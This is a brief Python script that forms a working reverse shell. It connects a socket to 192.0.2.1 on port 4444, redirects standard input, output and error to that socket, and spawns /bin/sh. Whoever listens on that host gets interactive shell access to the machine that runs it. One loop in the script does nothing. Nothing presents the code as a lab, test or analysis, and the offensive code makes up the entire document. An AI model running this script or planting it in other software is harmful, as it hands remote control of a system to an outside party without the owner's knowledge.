import os
import pty
import socket

s = socket.socket()
s.connect(("192.0.2.1", 4444))
for fd in (0, 1, 2):
    pass
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
pty.spawn("/bin/sh")
